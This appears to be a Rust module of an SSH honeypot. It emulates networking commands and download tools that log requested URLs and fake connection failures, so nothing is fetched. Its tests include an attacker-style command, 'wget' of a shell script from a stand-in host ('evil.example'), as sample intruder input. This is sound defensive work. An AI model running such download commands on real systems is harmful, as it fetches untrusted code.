//! Networking: `ifconfig`, `ip`, `netstat`/`ss` (the decky's address and
//! MAC, the attacker's own connection), and the download tools, which
//! record the URL and fail the way an unreachable host makes them fail
//! (nothing is ever fetched).

use super::{Cmd, Command, Res};
use crate::shell::{Output, Shell, ShellEvent};

/// `ifconfig`: `eth0` with the decky's address and `lo`.
pub(crate) struct Ifconfig;

impl Command for Ifconfig {
    fn names(&self) -> &'static [&'static str] {
        &["ifconfig"]
    }

    fn run(&self, sh: &mut Shell, c: &Cmd, _: &mut Output) -> Res {
        // Not part of a stock Debian/Ubuntu: bash finds nothing to run.
        if sh.installed("ifconfig").is_none() {
            return super::not_emulated(sh, c);
        }
        Res::ok(ifconfig(sh))
    }
}

/// `ip addr|route|link`.
pub(crate) struct Ip;

impl Command for Ip {
    fn names(&self) -> &'static [&'static str] {
        &["ip"]
    }

    fn run(&self, sh: &mut Shell, c: &Cmd, _: &mut Output) -> Res {
        ip(sh, c)
    }
}

/// `netstat`/`ss`: sshd listening and the attacker's session.
pub(crate) struct Netstat;

impl Command for Netstat {
    fn names(&self) -> &'static [&'static str] {
        &["netstat", "ss"]
    }

    fn run(&self, sh: &mut Shell, c: &Cmd, _: &mut Output) -> Res {
        // `ss` is iproute2's and always there; `netstat` is net-tools'.
        if c.name == "netstat" && sh.installed("netstat").is_none() {
            return super::not_emulated(sh, c);
        }
        Res::ok(netstat(sh, c.name))
    }
}

/// Download tools: each URL becomes a [`ShellEvent::Download`]; the tool then
/// reports a timeout (an IP) or a failed lookup (a name).
pub(crate) struct Download;

impl Command for Download {
    fn names(&self) -> &'static [&'static str] {
        &["wget", "curl", "tftp", "ftpget", "fetch"]
    }

    fn run(&self, sh: &mut Shell, c: &Cmd, out: &mut Output) -> Res {
        download(sh, c, c.name, out)
    }
}

/// The `ssh` client: `-V` prints the persona's OpenSSH and OpenSSL
/// versions on stderr and exits 0, wherever it stands among the options;
/// without a destination it prints its usage and exits 255 (OpenSSH 9.2's
/// text). Connections onwards are not emulated (see [`super::not_emulated`]).
pub(crate) struct Ssh;

impl Command for Ssh {
    fn names(&self) -> &'static [&'static str] {
        &["ssh"]
    }

    fn run(&self, sh: &mut Shell, c: &Cmd, _: &mut Output) -> Res {
        match ssh_invocation(&c.argv[1..]) {
            SshInvocation::Version => {
                let host = sh.vfs.host();
                let line = if host.openssl.is_empty() {
                    format!("{}\n", host.ssh_version)
                } else {
                    format!("{}, {}\n", host.ssh_version, host.openssl)
                };
                Res::err(line, 0)
            }
            SshInvocation::Usage => Res::err(SSH_USAGE.to_owned(), 255),
            SshInvocation::Connect => super::not_emulated(sh, c),
        }
    }
}

const SSH_USAGE: &str = "usage: ssh [-46AaCfGgKkMNnqsTtVvXxYy] [-B bind_interface]
           [-b bind_address] [-c cipher_spec] [-D [bind_address:]port]
           [-E log_file] [-e escape_char] [-F configfile] [-I pkcs11]
           [-i identity_file] [-J [user@]host[:port]] [-L address]
           [-l login_name] [-m mac_spec] [-O ctl_cmd] [-o option] [-p port]
           [-Q query_option] [-R address] [-S ctl_path] [-W host:port]
           [-w local_tun[:remote_tun]] destination [command [argument ...]]
";

/// ssh's options that take a value (`getopt` string letters followed by `:`).
const SSH_VALUE_OPTIONS: &str = "BbcDEeFIiJLlmOoPpQRSWw";

enum SshInvocation {
    Version,
    Usage,
    Connect,
}

/// Reads ssh's options as `getopt` does: clustered flags, a value either
/// glued to its letter or in the next word, options ending at the first
/// word that is not one.
fn ssh_invocation(args: &[String]) -> SshInvocation {
    let mut words = args.iter();
    while let Some(word) = words.next() {
        let Some(cluster) = word.strip_prefix('-').filter(|c| !c.is_empty()) else {
            return SshInvocation::Connect;
        };
        if cluster == "-" {
            break;
        }
        for (i, letter) in cluster.char_indices() {
            if letter == 'V' {
                return SshInvocation::Version;
            }
            if SSH_VALUE_OPTIONS.contains(letter) {
                if i + letter.len_utf8() == cluster.len() {
                    words.next();
                }
                break;
            }
        }
    }
    if words.next().is_some() {
        SshInvocation::Connect
    } else {
        SshInvocation::Usage
    }
}

fn iface_numbers(sh: &Shell) -> (u64, u64, u64, u64) {
    let s = sh.vfs.host().salt;
    let up = (sh.now() - sh.vfs.host().boot_time).num_seconds().max(1) as u64;
    let rxp = up * (3 + s % 11);
    let txp = up * (2 + s % 7);
    (rxp, rxp * 610, txp, txp * 430)
}

/// The link-local address the kernel derives from the MAC (EUI-64).
fn link_local(sh: &Shell) -> String {
    let mac: Vec<u8> = sh
        .vfs
        .host()
        .mac
        .split(':')
        .filter_map(|x| u8::from_str_radix(x, 16).ok())
        .collect();
    if mac.len() == 6 {
        format!(
            "fe80::{:x}:{:x}:{:x}:{:x}",
            ((mac[0] ^ 2) as u16) << 8 | mac[1] as u16,
            (mac[2] as u16) << 8 | 0xff,
            0xfe00 | mac[3] as u16,
            (mac[4] as u16) << 8 | mac[5] as u16
        )
    } else {
        "fe80::1".into()
    }
}

/// `a.b.c.255` of the decky's /24.
fn broadcast(sh: &Shell) -> String {
    sh.vfs
        .host()
        .addrs
        .on_lan4(255)
        .map(|b| b.to_string())
        .unwrap_or_default()
}

fn ifconfig(sh: &Shell) -> String {
    let addrs = sh.vfs.host().addrs;
    let (rxp, rxb, txp, txb) = iface_numbers(sh);
    let hb = |b: u64| {
        let (v, u) = if b >= 1 << 30 {
            (b as f64 / (1u64 << 30) as f64, "GiB")
        } else if b >= 1 << 20 {
            (b as f64 / (1u64 << 20) as f64, "MiB")
        } else {
            (b as f64 / 1024.0, "KiB")
        };
        format!("{v:.1} {u}")
    };
    let mut inet = String::new();
    if let Some(v4) = addrs.v4 {
        inet += &format!(
            "        inet {v4}  netmask 255.255.255.0  broadcast {}\n",
            broadcast(sh)
        );
    }
    if let Some(v6) = addrs.v6 {
        inet += &format!("        inet6 {v6}  prefixlen 64  scopeid 0x0<global>\n");
    }
    format!(
        "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n{inet}        inet6 {ll}  prefixlen 64  scopeid 0x20<link>\n        ether {mac}  txqueuelen 1000  (Ethernet)\n        RX packets {rxp}  bytes {rxb} ({})\n        RX errors 0  dropped 0  overruns 0  frame 0\n        TX packets {txp}  bytes {txb} ({})\n        TX errors 0  dropped 0 overruns 0  carrier 0  collisions 0\n\nlo: flags=73<UP,LOOPBACK,RUNNING>  mtu 65536\n        inet 127.0.0.1  netmask 255.0.0.0\n        inet6 ::1  prefixlen 128  scopeid 0x10<host>\n        loop  txqueuelen 1000  (Local Loopback)\n        RX packets 3102  bytes 298843 (291.8 KiB)\n        RX errors 0  dropped 0  overruns 0  frame 0\n        TX packets 3102  bytes 298843 (291.8 KiB)\n        TX errors 0  dropped 0 overruns 0  carrier 0  collisions 0\n\n",
        hb(rxb),
        hb(txb),
        ll = link_local(sh),
        mac = sh.vfs.host().mac,
    )
}

/// Which address families `ip -4`/`ip -6` asked for.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Family {
    Any,
    V4,
    V6,
}

/// `ip a`: `lo` and `eth0` with the decky's addresses of `family`.
fn ip_addr(sh: &Shell, family: Family) -> String {
    let addrs = sh.vfs.host().addrs;
    let (v4, v6) = (family != Family::V6, family != Family::V4);
    let lifetime = "       valid_lft forever preferred_lft forever\n";
    let mut lo = String::new();
    let mut eth0 = String::new();
    if v4 {
        lo += &format!("    inet 127.0.0.1/8 scope host lo\n{lifetime}");
        if let Some(a) = addrs.v4 {
            eth0 += &format!(
                "    inet {a}/24 brd {} scope global eth0\n{lifetime}",
                broadcast(sh)
            );
        }
    }
    if v6 {
        lo += &format!("    inet6 ::1/128 scope host noprefixroute \n{lifetime}");
        if let Some(a) = addrs.v6 {
            eth0 += &format!("    inet6 {a}/64 scope global \n{lifetime}");
        }
        eth0 += &format!("    inet6 {}/64 scope link \n{lifetime}", link_local(sh));
    }
    if family != Family::Any {
        // `ip -4 a`/`ip -6 a` print no link lines.
        return format!(
            "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 state UNKNOWN qlen 1000\n{lo}2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 state UP qlen 1000\n{eth0}"
        );
    }
    format!(
        "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000\n    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n{lo}2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc fq_codel state UP group default qlen 1000\n    link/ether {mac} brd ff:ff:ff:ff:ff:ff\n    altname enp0s3\n{eth0}",
        mac = sh.vfs.host().mac
    )
}

/// `ip r` (IPv4 table) or `ip -6 r`: the LAN's prefix and a default route
/// via its router, for the families the decky has.
fn ip_route(sh: &Shell, family: Family) -> String {
    let addrs = sh.vfs.host().addrs;
    if family == Family::V6 {
        let mut out = String::new();
        if let (Some(net), Some(gw)) = (addrs.on_lan6(0), addrs.on_lan6(1)) {
            out += &format!("{net}/64 dev eth0 proto kernel metric 256 pref medium\n");
            out += "fe80::/64 dev eth0 proto kernel metric 256 pref medium\n";
            out += &format!("default via {gw} dev eth0 metric 1024 onlink pref medium\n");
        } else {
            out += "fe80::/64 dev eth0 proto kernel metric 256 pref medium\n";
        }
        return out;
    }
    match (addrs.v4, addrs.on_lan4(0), addrs.on_lan4(1)) {
        (Some(ip), Some(net), Some(gw)) => format!(
            "default via {gw} dev eth0 onlink \n{net}/24 dev eth0 proto kernel scope link src {ip} \n"
        ),
        _ => String::new(),
    }
}

fn ip(sh: &Shell, c: &Cmd) -> Res {
    let mut args = c.argv.iter().skip(1).map(String::as_str).peekable();
    let mut family = Family::Any;
    while let Some(opt) = args.next_if(|a| a.starts_with('-')) {
        match opt {
            "-4" => family = Family::V4,
            "-6" => family = Family::V6,
            _ => {}
        }
    }
    match args.next().unwrap_or("") {
        "a" | "addr" | "address" => Res::ok(ip_addr(sh, family)),
        "r" | "route" => Res::ok(ip_route(sh, family)),
        "l" | "link" => Res::ok(format!(
            "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN mode DEFAULT group default qlen 1000\n    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc fq_codel state UP mode DEFAULT group default qlen 1000\n    link/ether {} brd ff:ff:ff:ff:ff:ff\n",
            sh.vfs.host().mac
        )),
        "" => Res::err("Usage: ip [ OPTIONS ] OBJECT { COMMAND | help }\n       ip [ -force ] -batch filename\nwhere  OBJECT := { address | addrlabel | amt | fou | help | ila | ioam | l2tp | link |\n                   macsec | maddress | monitor | mptcp | mroute | mrule |\n                   neighbor | neighbour | netconf | netns | nexthop | ntable |\n                   ntbl | route | rule | sr | tap | tcpmetrics |\n                   token | tunnel | tuntap | vrf | xfrm }\n".into(), 255),
        other => Res::err(format!("Object \"{other}\" is unknown, try \"ip help\".\n"), 255),
    }
}

fn netstat(sh: &Shell, name: &str) -> String {
    // The attacker's connection arrived on the decky's address of its family.
    let remote = sh.opts.remote.as_str();
    let addrs = sh.vfs.host().addrs;
    let v6_peer = remote.parse::<std::net::Ipv6Addr>().is_ok();
    let local = if v6_peer {
        addrs.v6.map(std::net::IpAddr::V6)
    } else {
        addrs.v4.map(std::net::IpAddr::V4)
    }
    .or(addrs.primary())
    .map(|a| a.to_string())
    .unwrap_or_default();
    if name == "ss" {
        let (local, remote) = if v6_peer {
            (format!("[{local}]"), format!("[{remote}]"))
        } else {
            (local, remote.to_owned())
        };
        format!(
            "Netid State  Recv-Q Send-Q Local Address:Port  Peer Address:Port Process\ntcp   LISTEN 0      128          0.0.0.0:22         0.0.0.0:*          \ntcp   ESTAB  0      0        {local}:22   {remote}:52814           \ntcp   LISTEN 0      128             [::]:22            [::]:*          \n"
        )
    } else {
        format!(
            "Active Internet connections (servers and established)\nProto Recv-Q Send-Q Local Address           Foreign Address         State      \ntcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN     \n{:<5}      0     64 {:<23} {:<23} ESTABLISHED\ntcp6       0      0 :::22                   :::*                    LISTEN     \n",
            if v6_peer { "tcp6" } else { "tcp" },
            format!("{local}:22"),
            format!("{remote}:52814")
        )
    }
}

/// curl options whose value is the next word (so it is not taken for a URL).
const CURL_VALUE_OPTIONS: &[&str] = &[
    "-o",
    "-H",
    "-d",
    "-A",
    "-u",
    "-X",
    "-e",
    "-x",
    "-b",
    "-c",
    "-m",
    "-F",
    "-T",
    "-w",
    "-K",
    "--output",
    "--header",
    "--data",
    "--user-agent",
    "--user",
    "--request",
    "--connect-timeout",
    "--max-time",
    "--data-binary",
];

/// The same for wget and the other tools.
const WGET_VALUE_OPTIONS: &[&str] = &[
    "-O",
    "-o",
    "-P",
    "-U",
    "-e",
    "-t",
    "-T",
    "-a",
    "--output-document",
    "--user-agent",
    "--header",
    "--tries",
    "--timeout",
];

/// At most this many URLs of one command are recorded.
const MAX_URLS: usize = 16;

fn download(sh: &Shell, c: &Cmd, tool: &str, out: &mut Output) -> Res {
    let urls = urls(c, tool);
    if urls.is_empty() {
        return match tool {
            "curl" => Res::err("curl: try 'curl --help' or 'curl --manual' for more information\n".into(), 2),
            _ => Res::err(format!("{tool}: missing URL\nUsage: {tool} [OPTION]... [URL]...\n\nTry `{tool} --help' for more options.\n"), 1),
        };
    }
    let mut res = Res::default();
    for u in urls.into_iter().take(MAX_URLS) {
        out.events.push(ShellEvent::Download {
            url: u.clone(),
            tool: tool.to_owned(),
        });
        let (text, code) = failure(sh, tool, &u);
        res.err.push_str(&text);
        res.code = code;
    }
    res
}

/// The words that look like URLs (bounded), option values skipped.
fn urls(c: &Cmd, tool: &str) -> Vec<String> {
    let value_options = if tool == "curl" {
        CURL_VALUE_OPTIONS
    } else {
        WGET_VALUE_OPTIONS
    };
    let mut urls = Vec::new();
    let mut skip = false;
    for a in c.argv.iter().skip(1) {
        if skip {
            skip = false;
            continue;
        }
        if value_options.contains(&a.as_str()) {
            skip = true;
            continue;
        }
        if a.starts_with('-') {
            continue;
        }
        if a.len() <= 2048 && (a.contains("://") || a.contains('.') || a.contains('/')) {
            urls.push(a.clone());
        }
    }
    urls
}

/// What `tool` prints, and its exit status, when the URL's host cannot be
/// reached (an address: connection fails) or resolved (a name).
fn failure(sh: &Shell, tool: &str, u: &str) -> (String, i32) {
    let (scheme, rest) = match u.split_once("://") {
        Some((s, r)) => (s.to_ascii_lowercase(), r),
        None => ("http".to_owned(), u),
    };
    let hostport = rest.split('/').next().unwrap_or("");
    let host = hostport.rsplit('@').next().unwrap_or(hostport);
    let (h, port) = match host.rsplit_once(':') {
        Some((h, p)) if p.parse::<u16>().is_ok() => (h, p),
        _ => (host, if scheme == "https" { "443" } else { "80" }),
    };
    let is_ip = h.parse::<std::net::Ipv4Addr>().is_ok();
    if tool == "curl" {
        if is_ip {
            let ms = 3000 + sh.vfs.host().salt % 100;
            return (format!("curl: (7) Failed to connect to {h} port {port} after {ms} ms: Couldn't connect to server\n"), 7);
        }
        return (format!("curl: (6) Could not resolve host: {h}\n"), 6);
    }
    let when = sh.now().format("%Y-%m-%d %H:%M:%S");
    let shown = if u.contains("://") {
        u.to_owned()
    } else {
        format!("http://{u}")
    };
    if is_ip {
        (format!("--{when}--  {shown}\nConnecting to {h}:{port}... failed: Connection timed out.\nRetrying.\n\n"), 4)
    } else {
        (format!("--{when}--  {shown}\nResolving {h} ({h})... failed: Temporary failure in name resolution.\nwget: unable to resolve host address ‘{h}’\n"), 4)
    }
}

#[cfg(test)]
mod tests {
    use crate::commands::testing::{root, root_at, root_on, run};
    use crate::shell::ShellEvent;
    use crate::vfs::HostAddrs;

    #[test]
    fn stock_debian_and_ubuntu_have_no_net_tools_but_have_iproute2() {
        for distro in ["debian", "ubuntu22"] {
            let mut sh = root_on(distro);
            assert_eq!(
                run(&mut sh, "ifconfig"),
                "-bash: ifconfig: command not found\n",
                "{distro}"
            );
            assert_eq!(
                run(&mut sh, "netstat -antp"),
                "-bash: netstat: command not found\n",
                "{distro}"
            );
            assert!(run(&mut sh, "ss -antp").contains(":22 "), "{distro}");
            assert!(run(&mut sh, "ip a").contains("eth0"), "{distro}");
            assert_eq!(run(&mut sh, "which ifconfig netstat ss"), "/usr/bin/ss\n");
        }
        let mut busybox = root_on("busybox");
        assert!(run(&mut busybox, "ifconfig").contains("eth0"));
    }

    #[test]
    fn ifconfig_shows_the_deckys_address_and_mac() {
        // Kali installs net-tools; a stock Debian has no ifconfig.
        let mut sh = root_on("kali");
        let mac = sh.vfs().host().mac.clone();
        let out = run(&mut sh, "ifconfig");
        assert!(out.starts_with("eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n"));
        assert!(out.contains("inet 10.0.0.5  netmask 255.255.255.0  broadcast 10.0.0.255\n"));
        assert!(out.contains(&format!("ether {mac}  txqueuelen 1000  (Ethernet)\n")));
        assert!(out.contains("\nlo: flags=73<UP,LOOPBACK,RUNNING>  mtu 65536\n"));
    }

    #[test]
    fn ip_shows_addresses_routes_and_links() {
        let mut sh = root();
        let mac = sh.vfs().host().mac.clone();
        assert!(run(&mut sh, "ip a")
            .contains("    inet 10.0.0.5/24 brd 10.0.0.255 scope global eth0\n"));
        assert_eq!(
            run(&mut sh, "ip r"),
            "default via 10.0.0.1 dev eth0 onlink \n10.0.0.0/24 dev eth0 proto kernel scope link src 10.0.0.5 \n"
        );
        assert!(run(&mut sh, "ip link")
            .contains(&format!("    link/ether {mac} brd ff:ff:ff:ff:ff:ff\n")));
        let out = sh.execute("ip foo");
        assert_eq!(out.stdout, "Object \"foo\" is unknown, try \"ip help\".\n");
        assert_eq!(out.exit_code, 255);
        assert!(run(&mut sh, "ip").starts_with("Usage: ip [ OPTIONS ] OBJECT"));
    }

    #[test]
    fn netstat_and_ss_show_sshd_and_the_attacker() {
        let mut sh = root_on("kali");
        let ns = run(&mut sh, "netstat -antp");
        assert!(
            ns.contains(
                "tcp        0     64 10.0.0.5:22             203.0.113.9:52814       ESTABLISHED\n"
            ),
            "{ns}"
        );
        let ss = run(&mut sh, "ss -tlnp");
        assert!(ss.starts_with("Netid State  Recv-Q Send-Q"));
        assert!(
            ss.contains("tcp   ESTAB  0      0        10.0.0.5:22   203.0.113.9:52814"),
            "{ss}"
        );
    }

    fn v6_only() -> HostAddrs {
        HostAddrs {
            v4: None,
            v6: Some("fd00:dec:6::10".parse().unwrap()),
        }
    }

    #[test]
    fn a_v6_only_decky_shows_its_ipv6_address_and_no_ipv4() {
        let mut sh = root_at("kali", v6_only(), "fd00:a77::66");
        let ifconfig = run(&mut sh, "ifconfig");
        assert!(
            ifconfig.contains("        inet6 fd00:dec:6::10  prefixlen 64  scopeid 0x0<global>\n"),
            "{ifconfig}"
        );
        let eth0 = ifconfig.split("\nlo:").next().unwrap();
        assert!(!eth0.contains("inet "), "no IPv4 on eth0: {eth0}");
        assert!(eth0.contains("scopeid 0x20<link>"), "{eth0}");
        let ip_a = run(&mut sh, "ip a");
        assert!(
            ip_a.contains("    inet6 fd00:dec:6::10/64 scope global \n"),
            "{ip_a}"
        );
        assert!(
            !ip_a.contains("scope global eth0"),
            "no IPv4 on eth0: {ip_a}"
        );
        assert_eq!(run(&mut sh, "ip -4 r"), "");
        assert!(run(&mut sh, "ip -6 route")
            .contains("default via fd00:dec:6::1 dev eth0 metric 1024 onlink pref medium\n"));
        assert_eq!(run(&mut sh, "hostname -I"), "fd00:dec:6::10 \n");
        assert_eq!(run(&mut sh, "hostname -i"), "fd00:dec:6::10\n");
        let hosts = run(&mut sh, "cat /etc/hosts");
        let h = sh.vfs().host().hostname.clone();
        assert!(hosts.contains("\nfd00:dec:6::10\t"), "{hosts}");
        assert!(hosts.contains(&format!("\t{h}\n")), "{hosts}");
        assert!(!hosts.contains("127.0.1.1"), "{hosts}");
        let resolv = run(&mut sh, "cat /etc/resolv.conf");
        assert!(resolv.ends_with("nameserver fd00:dec:6::1\n"), "{resolv}");
        let ns = run(&mut sh, "netstat -antp");
        assert!(
            ns.contains(
                "tcp6       0     64 fd00:dec:6::10:22       fd00:a77::66:52814      ESTABLISHED\n"
            ),
            "{ns}"
        );
        assert!(run(&mut sh, "ss -tnp").contains("[fd00:dec:6::10]:22   [fd00:a77::66]:52814"));
    }

    #[test]
    fn a_dual_stack_decky_shows_both_addresses() {
        let addrs = HostAddrs {
            v4: Some("10.0.0.5".parse().unwrap()),
            ..v6_only()
        };
        let mut sh = root_at("kali", addrs, "203.0.113.9");
        let ifconfig = run(&mut sh, "ifconfig");
        assert!(ifconfig.contains("        inet 10.0.0.5  netmask 255.255.255.0  broadcast 10.0.0.255\n        inet6 fd00:dec:6::10  prefixlen 64"), "{ifconfig}");
        let ip6 = run(&mut sh, "ip -6 a");
        assert!(
            ip6.contains("inet6 fd00:dec:6::10/64 scope global"),
            "{ip6}"
        );
        assert!(!ip6.contains("inet 10.0.0.5"), "ip -6 shows no IPv4: {ip6}");
        assert_eq!(run(&mut sh, "hostname -I"), "10.0.0.5 fd00:dec:6::10 \n");
        // The attacker came over IPv4: its connection is on the IPv4 address.
        assert!(run(&mut sh, "netstat -antp").contains("tcp        0     64 10.0.0.5:22 "));
    }

    #[test]
    fn an_ipv4_decky_has_no_global_ipv6_address() {
        let mut sh = root();
        assert_eq!(run(&mut sh, "hostname -I"), "10.0.0.5 \n");
        assert_eq!(run(&mut sh, "hostname -i"), "127.0.1.1\n");
        assert!(!run(&mut sh, "ip a").contains("scope global \n"));
        assert!(run(&mut sh, "cat /etc/hosts").contains("\n127.0.1.1\t"));
        assert_eq!(
            run(&mut sh, "ip -6 r"),
            "fe80::/64 dev eth0 proto kernel metric 256 pref medium\n"
        );
    }

    #[test]
    fn ssh_prints_its_version_or_usage_like_openssh() {
        let mut sh = root();
        let host = sh.vfs.host().clone();
        let version = format!("{}, {}\n", host.ssh_version, host.openssl);
        assert!(
            version.starts_with("OpenSSH_9.2p1 Debian-2+deb12u"),
            "{version}"
        );
        for line in ["ssh -V", "ssh -qV", "ssh -p 22 -V", "ssh -V somehost"] {
            let out = sh.execute(line);
            assert_eq!(out.stdout, version, "{line}");
            assert_eq!(out.exit_code, 0, "{line}");
        }
        // `V` as an option's value is not the flag; no destination: usage.
        for line in ["ssh -oV", "ssh"] {
            let out = sh.execute(line);
            assert!(out
                .stdout
                .starts_with("usage: ssh [-46AaCfGgKkMNnqsTtVvXxYy]"));
            assert!(out
                .stdout
                .ends_with("destination [command [argument ...]]\n"));
            assert_eq!(out.exit_code, 255, "{line}");
        }
    }

    #[test]
    fn downloads_record_urls_and_fail_like_the_tool() {
        let mut sh = root();
        let out = sh.execute("wget -O out.sh http://evil.example/x.sh");
        let urls: Vec<(&str, &str)> = out
            .events
            .iter()
            .filter_map(|e| match e {
                ShellEvent::Download { url, tool } => Some((url.as_str(), tool.as_str())),
                _ => None,
            })
            .collect();
        // The -O value is not a URL.
        assert_eq!(urls, vec![("http://evil.example/x.sh", "wget")]);
        assert_eq!(
            out.stdout,
            "--2026-11-23 10:00:00--  http://evil.example/x.sh\nResolving evil.example (evil.example)... failed: Temporary failure in name resolution.\nwget: unable to resolve host address ‘evil.example’\n"
        );
        assert_eq!(out.exit_code, 4);
        let out = sh.execute("curl -s https://198.51.100.7/y");
        assert!(out
            .stdout
            .starts_with("curl: (7) Failed to connect to 198.51.100.7 port 443 after "));
        assert_eq!(out.exit_code, 7);
        let out = sh.execute("curl -H 'Host: x' a.example:8080/p");
        assert_eq!(out.stdout, "curl: (6) Could not resolve host: a.example\n");
        assert_eq!(out.exit_code, 6);
        assert!(run(&mut sh, "tftp -g 198.51.100.9:69/x")
            .contains("Connecting to 198.51.100.9:69... failed"));
        assert_eq!(sh.execute("curl").exit_code, 2);
        assert!(run(&mut sh, "ftpget").starts_with("ftpget: missing URL\n"));
        assert!(run(&mut sh, "fetch").starts_with("fetch: missing URL\n"));
    }
}
